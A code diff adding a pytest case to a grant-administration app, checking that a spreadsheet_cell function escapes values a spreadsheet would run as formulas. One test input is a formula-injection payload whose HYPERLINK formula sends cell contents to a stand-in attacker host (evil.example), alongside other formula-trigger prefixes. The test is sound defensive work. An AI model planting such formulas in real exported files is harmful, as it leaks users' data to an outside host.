@@ -2,6 +2,7 @@
 written: a report, an official's reasons, a recovery's, a change request's."""
 
 from datetime import date
+from decimal import Decimal
 
 import pytest
 
@@ -14,7 +15,7 @@ from avustus.reports.models import InterimReport
 from avustus.reports.outputs import add_output
 from avustus.reports.services import CostInput
 from avustus.settlement import recovery
-from avustus.texts import MAX_TEXT, too_long
+from avustus.texts import MAX_TEXT, spreadsheet_cell, too_long
 from tests.projects.conftest import cast, person, small_round  # noqa: F401 (fixtures)
 
 LONG = "x" * (MAX_TEXT + 1)
@@ -57,3 +58,12 @@ def test_a_report_or_an_officials_reasons_too_long_are_refused_on_the_field_and_
         assert refused.value.message_dict[next(iter(refused.value.message_dict))][0].startswith("At most")
     report.refresh_from_db()
     assert report.status == InterimReport.Status.SUBMITTED and AuditEntry.objects.count() == entries
+
+
+@pytest.mark.parametrize(("typed", "written"), [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+358 40 123", "'+358 40 123"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Salo", "Salo"), ("Föreningen 1-2", "Föreningen 1-2"), ("", ""), (Decimal("-1.00"), Decimal("-1.00")),
+])
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(typed, written):
+    assert spreadsheet_cell(typed) == written
